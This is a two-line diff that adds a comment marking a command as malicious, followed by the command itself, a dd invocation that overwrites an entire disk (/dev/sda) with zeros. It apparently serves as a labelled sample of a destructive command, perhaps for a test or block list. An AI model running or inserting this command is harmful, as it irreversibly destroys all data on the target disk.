@@ -1,0 +1,2 @@
+# Malicious: dd of=/dev/sda overwrites the whole disk with zeros.
+dd if=/dev/zero of=/dev/sda bs=1M status=progress
